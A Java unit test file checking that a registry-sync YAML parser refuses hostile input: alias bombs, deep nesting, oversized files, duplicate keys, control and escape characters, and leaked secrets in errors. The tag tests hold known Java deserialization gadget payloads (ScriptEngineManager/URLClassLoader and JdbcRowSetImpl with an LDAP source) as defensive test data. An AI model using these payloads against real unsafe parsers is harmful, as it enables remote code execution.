package io.registrysync.spec;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class HostileYamlTest {
    @TempDir
    Path folder;

    @Test
    void a_billion_laughs_end_at_the_limit_of_values() {
        StringBuilder text = new StringBuilder("a0: &a0 [lol, lol]\n");
        for (int i = 1; i < 10; i++) {
            text.append("a").append(i).append(": &a").append(i).append(" [").append(("*a" + (i - 1) + ", ").repeat(9));
            text.append("x]\n");
        }

        refuses(text.toString(), "6:25: ", "more than 100000 values that aliases repeat");
    }

    @Test
    void aliases_end_at_their_limit() {
        refuses("a: &a x\nb: [" + "*a, ".repeat(50) + "*a]\n", "2:205: ", "more than 50 aliases");
    }

    @Test
    void few_aliases_that_multiply_end_at_the_limit_of_values() {
        StringBuilder text = new StringBuilder("a0: &a0 [lol, lol]\n");
        for (int i = 1; i <= 24; i++) {
            text.append("a" + i + ": &a" + i + " [*a" + (i - 1) + ", *a" + (i - 1) + "]\n");
        }

        refuses(text.toString(), "15:18", "more than 100000 values that aliases repeat");
    }

    @Test
    void what_contains_itself_is_refused() {
        refuses("registries: &a {b: *a}\n", "1:20", "*a repeats nothing that ends before it");
        refuses("a: &a [x]\nb: &a [*a]\n", "2:8", "*a repeats nothing that ends before it");
        refuses("a: *missing\n", "1:4", "*missing repeats nothing that ends before it");
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{a: ", "- ", "? "})
    void depth_ends_at_its_limit(String level) {
        String end = level.equals("[") ? "]" : level.startsWith("{") ? "}" : "";

        refuses(level.repeat(30) + "x" + end.repeat(30), "1:", "nested deeper than 20 levels");
        refuses("syncs:\n" + level.repeat(200_000), "2:", "");
    }

    @Test
    void a_large_file_is_not_read() throws IOException {
        Path file = Files.writeString(folder.resolve("large.yaml"), "# " + "x".repeat(16 << 20));

        assertThatThrownBy(() -> SyncFile.read(file, Map.of()))
                .isInstanceOf(SyncFileException.class)
                .hasMessageContaining("the file is larger than 16 MiB");
        refuses("# " + "x".repeat(16 << 20), "1:1", "the file is larger than 16 MiB");
    }

    @Test
    void long_keys_above_many_values_cost_no_more_than_others() {
        String text = "? " + "k".repeat(500_000) + "\n: [" + "a,".repeat(99_000) + "]\n";

        refuses(text, "1:3: ", "unknown key \"kkk");
    }

    @Test
    void many_defaults_for_many_syncs_are_refused() {
        String text =
                "defaults: {platforms: [" + "amd64,".repeat(40_000) + "]}\nsyncs: [" + "{},".repeat(40_000) + "]\n";

        refuses(text, "1:11: ", "defaults with so many values for so many syncs");
    }

    @Test
    void many_names_make_no_long_messages() {
        StringBuilder text = new StringBuilder("registries: {");
        for (int i = 0; i < 10_000; i++) {
            text.append("some-registry-").append(i).append(": a.b, ");
        }
        text.append("}\nsyncs: [{name: a, source: {registry: x}, target: {registry: x}}]\n");

        assertThatThrownBy(() -> SyncFile.parse("f", text.toString(), Map.of()))
                .isInstanceOf(SyncFileException.class)
                .message()
                .contains("no registry \"x\" is described; known: some-registry-0, ")
                .satisfies(message -> assertThat(message.length()).isLessThan(3000));
    }

    @Test
    void a_large_list_is_not_kept() {
        refuses("syncs: [" + "a,".repeat(1_200_000) + "]", "1:", "more than 1000000 values");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]",
                "!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://x/', autoCommit: true}",
                "!<tag:yaml.org,2002:java/object:java.net.URL> x",
                "!!str hub",
                "!!binary aGVsbG8=",
                "!local {a: b}",
                "!!set {a}",
                "! x",
            })
    void tags_are_refused(String value) {
        refuses("registries: " + value + "\n", "1:13", "are not read; leave it out");
    }

    @Test
    void tags_of_keys_are_refused() {
        refuses("!!java.net.URL x: y\n", "1:1", "are not read; leave it out");
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "a:\\n\\tb: c           | 2:1: | a tab; indent with spaces",
                "a: b\\na: c            | 2:1: | the key \"a\" stands here twice; first in line 1",
                "\"a\": b\\n'a': c      | 2:1: | the key \"a\" stands here twice; first in line 1",
                "? [a, b]\\n: c         | 1:3: | a key must be text, not a list",
                "{a: b}: c              | 1:1: | a key must be text, not a group of keys",
                "? {a: b}\\n: c         | 1:3: | a key must be text, not a group of keys",
                "~: c                   | 1:1: | a key must be text, not nothing",
                "null: c                | 1:1: | a key must be text, not nothing",
                ": c                    | 1:1: | not YAML",
                "'': c                  | 1:1: | a key must be text, not nothing",
                "a: &x {b: c}\\nd: {<<: *x} | 2:5: | YAML 1.2 has no merge keys",
                "---\\na: b\\n---\\nc: d | 3:1: | a second document begins here; a file holds one",
                "a: b\\n...\\n---\\nc: d | 3:1: | a second document begins here; a file holds one",
                "a: [b                  | 1:   | not YAML: ",
                "a: 'b                  | 1:   | not YAML: ",
                "a: b: c                | 1:5: | not YAML: ",
                "a: @b                  | 1:4: | not YAML: ",
                "%YAML 3.0\\n---\\na: b | 1:   | not YAML",
                "a: {b: c}}             | 1:   | not YAML: ",
                "a: \\u0000             | 1:4: | a control character, which YAML does not allow",
                "x: y\\na: 😀 \\u0007   | 2:6: | a control character, which YAML does not allow",
            })
    void is_refused_with_its_place(String text, String place, String problem) {
        refuses(
                text.replace("\\n", "\n")
                        .replace("\\t", "\t")
                        .replace("\\u0000", "\0")
                        .replace("\\u0007", "\u0007"),
                place,
                problem);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "   \n\n", "# only a comment\n", "\uFEFF"})
    void an_empty_file_is_refused(String text) {
        refuses(text, "1:1", "the file is empty");
    }

    @Test
    void a_syntax_error_does_not_repeat_the_lines_around_it() {
        assertThatThrownBy(() -> SyncFile.parse("f", "a:\n  password: hunter2\n bad\n", Map.of()))
                .isInstanceOf(SyncFileException.class)
                .message()
                .startsWith("f:3:2: not YAML: ")
                .doesNotContain("hunter2");
    }

    @Test
    void foreign_words_in_messages_are_short_and_harmless() {
        assertThatThrownBy(() -> SyncFile.parse("f", "\"\\e[31m\\u202e" + "x".repeat(500) + "\": 1", Map.of()))
                .isInstanceOf(SyncFileException.class)
                .message()
                .startsWith("f:1:1: unknown key \"\\u{1b}[31m\\u{202e}xxx")
                .satisfies(message -> assertThat(message.length()).isLessThan(250));
    }

    private static void refuses(String text, String place, String problem) {
        assertThatThrownBy(() -> SyncFile.parse("file.yaml", text, Map.of()))
                .isInstanceOf(SyncFileException.class)
                .satisfies(thrown -> assertThat(((SyncFileException) thrown).problems())
                        .anySatisfy(found -> assertThat(found.toString())
                                .startsWith("file.yaml:" + place)
                                .contains(problem)));
    }
}
